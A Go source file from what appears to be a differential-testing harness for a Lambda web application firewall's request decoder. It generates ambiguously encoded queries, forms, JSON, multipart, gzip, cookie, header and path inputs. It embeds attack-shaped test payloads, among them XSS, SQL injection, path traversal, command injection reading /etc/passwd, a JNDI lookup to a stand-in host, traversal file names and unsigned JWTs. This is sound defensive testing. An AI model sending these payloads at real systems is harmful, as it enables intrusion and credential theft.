// Package differential compares what lambdawaf's decoder judges with what
// the parsers Lambda handlers use extract from the same request: Go's
// standard library in-process, Python's (urllib.parse, base64, json,
// email, http.cookies, python-multipart, werkzeug) and Node's
// (querystring, URLSearchParams, Buffer, JSON, zlib, busboy) through small
// scripts. The property is one-sided: every value any parser extracts must
// be among the values the agent judged; the agent may judge more.
//
// The requests come from a generator of ambiguous encodings (Generate):
// duplicated and look-alike parameters, every base64 variant, double and
// invalid percent-encoding, multipart boundaries and file names as RFCs
// and lenient parsers read them, gzip members and trailing data, cookies
// and repeated headers.
package differential

import (
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"net/url"
	"strings"
)

// Case is one HTTP request, as a handler receives it.
type Case struct {
	Name    string      `json:"name"`
	Method  string      `json:"method"`
	Path    string      `json:"path"`    // raw path
	Query   string      `json:"query"`   // raw query string, without '?'
	Headers [][2]string `json:"headers"` // in order, names lower case, may repeat
	Body    []byte      `json:"body"`    // raw body (JSON: base64)
}

// Header returns the values of a header joined as API Gateway joins
// repeated headers in the event ("," ; cookies "; " once the handler's
// adapter rebuilds the header from the cookies array).
func (c *Case) Header(name string) string {
	sep := ","
	if name == "cookie" {
		sep = "; "
	}
	var vs []string
	for _, h := range c.Headers {
		if h[0] == name {
			vs = append(vs, h[1])
		}
	}
	return strings.Join(vs, sep)
}

// payloads are the values hidden in the encodings: attack-shaped, with the
// characters encodings treat specially.
var payloads = []string{
	"<script>alert(1)</script>",
	"' OR '1'='1' --",
	"../../../etc/passwd",
	"${jndi:ldap://evil.example/a}",
	"{{7*7}}",
	"; cat /etc/passwd",
	"a b+c&d=e;f",
	"naïve café",
	`x"y'z\`,
	"<svg/onload=alert(1)>",
	"1 UNION SELECT password FROM users",
}

type gen struct{ r *rand.Rand }

func (g gen) pick(s []string) string { return s[g.r.IntN(len(s))] }

// b64Header is b64 for a header or cookie value, which cannot hold a
// line break.
func (g gen) b64Header(s string) string {
	return strings.ReplaceAll(g.b64(s), "\n", "")
}

// b64 encodes s in one of the forms handlers' decoders accept.
func (g gen) b64(s string) string {
	std := base64.StdEncoding.EncodeToString([]byte(s))
	switch g.r.IntN(6) {
	case 0:
		return std
	case 1:
		return base64.RawURLEncoding.EncodeToString([]byte(s))
	case 2:
		return strings.TrimRight(std, "=")
	case 3: // inner line break, as MIME encoders wrap
		if len(std) > 8 {
			return std[:8] + "\n" + std[8:]
		}
		return std
	case 4: // data after the padding
		return base64.StdEncoding.EncodeToString([]byte("ab")) + std
	default:
		return base64.URLEncoding.EncodeToString([]byte(s))
	}
}

// value encodes a payload for a query string or form body.
func (g gen) value(p string) string {
	switch g.r.IntN(9) {
	case 0:
		return url.QueryEscape(p)
	case 1:
		return url.PathEscape(p)
	case 2: // double encoding
		return url.QueryEscape(url.QueryEscape(p))
	case 3:
		return url.QueryEscape(g.b64(p))
	case 4:
		return hex.EncodeToString([]byte(p))
	case 5: // an invalid escape beside a valid one
		return "%zz" + url.QueryEscape(p)
	case 6: // raw, only the separators escaped
		return strings.NewReplacer("&", "%26", "#", "%23", "=", "%3D", "+", "%2B", ";", "%3B", " ", "+").Replace(p)
	case 7: // IIS %u escapes for the first character
		return fmt.Sprintf("%%u%04x", []rune(p)[0]) + url.QueryEscape(string([]rune(p)[1:]))
	default:
		return url.QueryEscape(p)
	}
}

// form builds a query string or form body of a few pairs with ambiguous
// names and separators.
func (g gen) form() string {
	var b strings.Builder
	n := 1 + g.r.IntN(4)
	for i := range n {
		if i > 0 {
			b.WriteString(g.pick([]string{"&", "&", "&&", ";", "&;"}))
		}
		key := g.pick([]string{"q", "id", "user[name]", "a.b", "q", "", "x%20y", "%71", "k+k"})
		switch g.r.IntN(6) {
		case 0: // no '='
			b.WriteString(key)
		case 1: // a payload as the name
			b.WriteString(g.value(g.pick(payloads)) + "=1")
		default:
			b.WriteString(key + "=" + g.value(g.pick(payloads)))
		}
	}
	return b.String()
}

// jsonBody builds a JSON document with duplicated keys, escapes and
// encoded strings.
func (g gen) jsonBody() string {
	q := func(s string) string {
		var b strings.Builder
		b.WriteByte('"')
		for _, r := range s {
			switch {
			case r == '"' || r == '\\':
				b.WriteString(`\` + string(r))
			case r == '<' || r == '\'' && g.r.IntN(2) == 0:
				fmt.Fprintf(&b, `\u%04x`, r)
			case r < 0x20:
				fmt.Fprintf(&b, `\u%04x`, r)
			default:
				b.WriteRune(r)
			}
		}
		b.WriteByte('"')
		return b.String()
	}
	p1, p2 := g.pick(payloads), g.pick(payloads)
	inner := `{"cmd":` + q(g.pick(payloads)) + `}`
	switch g.r.IntN(5) {
	case 0: // duplicate keys: parsers keep the last, some the first
		return `{"role":` + q(p1) + `,"role":` + q(p2) + `}`
	case 1: // JSON in a string
		return `{"data":` + q(inner) + `}`
	case 2: // base64 in a string
		return `{"blob":` + q(g.b64(p1)) + `,"list":[` + q(p2) + `]}`
	case 3: // base64 of JSON
		return `{"token":` + q(g.b64(inner)) + `}`
	default:
		return `{` + q(p1) + `:` + q(p2) + `}`
	}
}

// multipart builds a multipart body and its Content-Type with the
// ambiguities parsers disagree on.
func (g gen) multipart() (ct string, body []byte) {
	b1, b2 := "AaB03x", "XyZ9"
	eol := g.pick([]string{"\r\n", "\r\n", "\n"})
	boundary := b1
	switch g.r.IntN(6) {
	case 0:
		ct = "multipart/form-data; boundary=" + b1
	case 1:
		ct = `multipart/form-data; boundary="` + b1 + `"`
	case 2: // a look-alike parameter first
		ct = "multipart/form-data; xboundary=" + b2 + "; boundary=" + b1
	case 3: // duplicated: Go refuses, others take the first or the last
		ct = "multipart/form-data; boundary=" + b2 + "; boundary=" + b1
	case 4:
		ct = "Multipart/Form-Data; BOUNDARY=" + b1 + "; charset=utf-8"
	default:
		ct = "multipart/form-data; charset=utf-8; boundary=" + b1
	}
	var b bytes.Buffer
	n := 1 + g.r.IntN(3)
	for range n {
		b.WriteString("--" + boundary + eol)
		name := g.pick([]string{"field", "file", "user", "q"})
		disp := `form-data; name="` + name + `"`
		switch g.r.IntN(5) {
		case 0:
			disp += `; filename="` + g.pick([]string{"../../etc/passwd", "a.txt", `..\..\win.ini`, "x.php"}) + `"`
		case 1: // RFC 2231 extended parameter
			disp += `; filename*=UTF-8''` + url.PathEscape(g.pick([]string{"../../etc/passwd", "café.txt", "<svg>.svg"}))
		case 2: // both
			disp += `; filename="safe.txt"; filename*=UTF-8''..%2F..%2Fshell.php`
		}
		b.WriteString("Content-Disposition: " + disp + eol)
		if g.r.IntN(3) == 0 {
			b.WriteString("Content-Type: " + g.pick([]string{"text/plain", "application/json", "application/octet-stream"}) + eol)
		}
		b.WriteString(eol)
		v := g.pick(payloads)
		if g.r.IntN(3) == 0 {
			v = g.b64(v)
		}
		b.WriteString(v + eol)
	}
	b.WriteString("--" + boundary + "--" + eol)
	return ct, b.Bytes()
}

func gz(p []byte) []byte {
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	w.Write(p)
	w.Close()
	return b.Bytes()
}

// Generate returns n requests from seed, deterministic.
func Generate(seed uint64, n int) []Case {
	g := gen{rand.New(rand.NewPCG(seed, 0x1a3bda))}
	cases := make([]Case, 0, n)
	for i := range n {
		c := Case{Method: "GET", Path: "/items", Name: fmt.Sprintf("case-%d", i)}
		c.Headers = append(c.Headers, [2]string{"host", "api.example.com"})
		switch kind := i % 8; kind {
		case 0:
			c.Name += "-query"
			c.Query = g.form()
		case 1:
			c.Name += "-form"
			c.Method = "POST"
			c.Headers = append(c.Headers, [2]string{"content-type", g.pick([]string{"application/x-www-form-urlencoded", "application/x-www-form-urlencoded; charset=UTF-8"})})
			c.Body = []byte(g.form())
		case 2:
			c.Name += "-json"
			c.Method = "POST"
			c.Headers = append(c.Headers, [2]string{"content-type", "application/json"})
			c.Body = []byte(g.jsonBody())
		case 3:
			c.Name += "-multipart"
			c.Method = "POST"
			ct, body := g.multipart()
			c.Headers = append(c.Headers, [2]string{"content-type", ct})
			c.Body = body
		case 4:
			c.Name += "-gzip"
			c.Method = "POST"
			c.Headers = append(c.Headers, [2]string{"content-type", "application/x-www-form-urlencoded"}, [2]string{"content-encoding", "gzip"})
			body := gz([]byte(g.form()))
			switch g.r.IntN(3) {
			case 0: // two members
				body = append(body, gz([]byte("&"+g.form()))...)
			case 1: // plain text after the member
				body = append(body, "&"+g.form()...)
			}
			c.Body = body
		case 5:
			c.Name += "-cookie"
			var parts []string
			for range 1 + g.r.IntN(3) {
				v := g.pick(payloads)
				switch g.r.IntN(4) {
				case 0:
					v = url.QueryEscape(v)
				case 1:
					v = g.b64Header(v)
				case 2:
					v = `"` + strings.NewReplacer(`"`, "", `\`, "", ";", "").Replace(v) + `"`
				default:
					v = strings.NewReplacer(";", "", ",", "", " ", "").Replace(v)
				}
				parts = append(parts, g.pick([]string{"session", "sid", "prefs", "session"})+"="+v)
			}
			c.Headers = append(c.Headers, [2]string{"cookie", strings.Join(parts, g.pick([]string{"; ", ";"}))})
		case 6:
			c.Name += "-header"
			v := g.pick(payloads)
			c.Headers = append(c.Headers,
				[2]string{"x-data", g.b64Header(v)},
				[2]string{"x-data", url.QueryEscape(g.pick(payloads))},
				[2]string{"authorization", "Bearer " + jwt(g.pick(payloads))})
		default:
			c.Name += "-path"
			c.Path = "/items/" + g.pick([]string{url.PathEscape(g.pick(payloads)), g.b64(g.pick(payloads)), url.PathEscape(url.PathEscape(g.pick(payloads)))})
			c.Path = strings.ReplaceAll(strings.ReplaceAll(c.Path, "\n", "%0A"), "?", "%3F")
		}
		cases = append(cases, c)
	}
	return cases
}

// jwt builds an unsigned token whose payload carries p.
func jwt(p string) string {
	h := base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"none","typ":"JWT"}`))
	body := base64.RawURLEncoding.EncodeToString([]byte(`{"sub":` + fmt.Sprintf("%q", p) + `}`))
	return h + "." + body + "."
}
